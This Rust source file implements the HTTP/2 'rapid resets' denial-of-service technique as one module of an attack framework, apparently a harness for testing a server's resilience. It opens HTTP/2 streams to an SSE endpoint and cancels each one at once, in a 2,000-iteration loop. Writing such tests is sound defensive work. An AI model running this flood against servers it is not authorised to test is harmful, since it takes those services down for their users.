//! Requests are made over HTTP/2 and taken back at once.

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct RapidResets;

impl Attack for RapidResets {
    fn name(&self) -> &'static str {
        "rapid resets"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let Some(requests) = target.http2(65_535).await else { return };
            for _ in 0..2_000 {
                let Ok(mut ready) = requests.clone().ready().await else { break };
                let request = target.request("GET", "/sse/events?topic=news").body(()).unwrap();
                let Ok((_, mut stream)) = ready.send_request(request, true) else { break };
                stream.send_reset(h2::Reason::CANCEL);
                tokio::task::yield_now().await;
            }
        })
    }
}
